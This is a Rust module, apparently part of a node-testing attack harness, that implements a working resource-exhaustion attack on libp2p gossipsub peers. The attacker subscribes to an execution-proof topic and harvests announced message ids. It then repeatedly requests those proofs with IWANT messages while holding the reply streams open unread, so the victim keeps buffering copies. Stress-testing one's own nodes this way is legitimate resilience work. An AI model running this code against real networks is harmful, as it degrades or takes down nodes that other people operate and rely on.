//! Attackers that ask for every proof again and again, and take none: each makes the victim keep copies for it.

use crate::{
    attack::{Attack, Tally, digest},
    node::Failure,
};
use assay_types::digest::execution_proof_topic;
use futures::{AsyncReadExt as _, AsyncWriteExt as _, StreamExt as _};
use libp2p::{Multiaddr, PeerId, Stream, StreamProtocol, SwarmBuilder, noise, swarm::SwarmEvent, tcp, yamux};
use prost::Message;
use std::{sync::atomic::Ordering, time::Duration};

/// Gossip's protocol.
const NAME: StreamProtocol = StreamProtocol::new("/meshsub/1.1.0");
/// Messages of more bytes are proofs, and are left where they are.
const SMALL: u64 = 64 * 1024;
/// Ids that are asked for: the newest that anybody was told of.
const IDS: usize = 64;
/// From one request to the next.
const PAUSE: Duration = Duration::from_millis(500);

/// gossipsub's `RPC`, as far as it is used here.
#[derive(Clone, PartialEq, Message)]
struct Rpc {
    #[prost(message, repeated, tag = "1")]
    subscriptions: Vec<Subscription>,
    #[prost(message, optional, tag = "3")]
    control: Option<Control>,
}

#[derive(Clone, PartialEq, Message)]
struct Subscription {
    #[prost(bool, tag = "1")]
    subscribe: bool,
    #[prost(string, tag = "2")]
    topic: String,
}

#[derive(Clone, PartialEq, Message)]
struct Control {
    #[prost(message, repeated, tag = "1")]
    ihave: Vec<IHave>,
    #[prost(message, repeated, tag = "2")]
    iwant: Vec<IWant>,
}

#[derive(Clone, PartialEq, Message)]
struct IHave {
    #[prost(string, tag = "1")]
    topic: String,
    #[prost(bytes = "vec", repeated, tag = "2")]
    ids: Vec<Vec<u8>>,
}

#[derive(Clone, PartialEq, Message)]
struct IWant {
    #[prost(bytes = "vec", repeated, tag = "1")]
    ids: Vec<Vec<u8>>,
}

/// One identity, from its connection to its end.
pub(crate) async fn live(address: &Multiaddr, victim: PeerId, tally: &Tally) -> Result<(), Failure> {
    let mut swarm = SwarmBuilder::with_new_identity()
        .with_tokio()
        .with_tcp(tcp::Config::default(), noise::Config::new, yamux::Config::default)?
        .with_behaviour(|_| libp2p_stream::Behaviour::new())?
        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(600)))
        .build();
    let mut control = swarm.behaviour().new_control();
    let mut incoming = control.accept(NAME)?;
    swarm.dial(address.clone())?;
    let events = async {
        loop {
            match swarm.select_next_some().await {
                SwarmEvent::ConnectionClosed { .. } | SwarmEvent::OutgoingConnectionError { .. } => return,
                _ => {}
            }
        }
    };
    let asking = async {
        let mut stream = loop {
            match control.open_stream(victim, NAME).await {
                Ok(stream) => break stream,
                Err(_) => tokio::time::sleep(Duration::from_millis(50)).await,
            }
        };
        let topic = execution_proof_topic(digest());
        let subscribe = Rpc {
            subscriptions: vec![Subscription {
                subscribe: true,
                topic,
            }],
            control: None,
        };
        stream
            .write_all(&subscribe.encode_length_delimited_to_vec())
            .await?;
        loop {
            stream.flush().await?;
            tokio::time::sleep(PAUSE).await;
            let ids = tally.ids.lock().map(|ids| ids.clone()).unwrap_or_default();
            if ids.is_empty() {
                continue;
            }
            tally.done[Attack::Takers as usize].fetch_add(1, Ordering::Relaxed);
            let request = Rpc {
                subscriptions: Vec::new(),
                control: Some(Control {
                    ihave: Vec::new(),
                    iwant: vec![IWant { ids }],
                }),
            };
            stream
                .write_all(&request.encode_length_delimited_to_vec())
                .await?;
        }
    };
    let listening = async {
        // Streams are kept, and not read once a proof is on them.
        let mut kept = Vec::new();
        while let Some((_, mut stream)) = incoming.next().await {
            let _ = listen(&mut stream, tally).await;
            kept.push(stream);
        }
    };
    tokio::select! {
        () = events => Ok(()),
        result = asking => result,
        () = listening => Ok(()),
    }
}

/// Notes the ids that are announced, until a proof comes.
async fn listen(stream: &mut Stream, tally: &Tally) -> Result<(), Failure> {
    loop {
        let (mut len, mut bits) = (0u64, 0u32);
        loop {
            let mut byte = [0];
            stream.read_exact(&mut byte).await?;
            len |= u64::from(byte[0] & 0x7f).checked_shl(bits).unwrap_or_default();
            bits += 7;
            if byte[0] & 0x80 == 0 {
                break;
            }
        }
        if len > SMALL {
            return Ok(());
        }
        let mut bytes = vec![0; usize::try_from(len)?];
        stream.read_exact(&mut bytes).await?;
        let told = Rpc::decode(&bytes[..])?.control.unwrap_or_default();
        let Ok(mut ids) = tally.ids.lock() else {
            return Err("an attacker has panicked".into());
        };
        for id in told.ihave.into_iter().flat_map(|ihave| ihave.ids) {
            if !ids.contains(&id) {
                ids.push(id);
            }
        }
        let old = ids.len().saturating_sub(IDS);
        ids.drain(..old);
    }
}
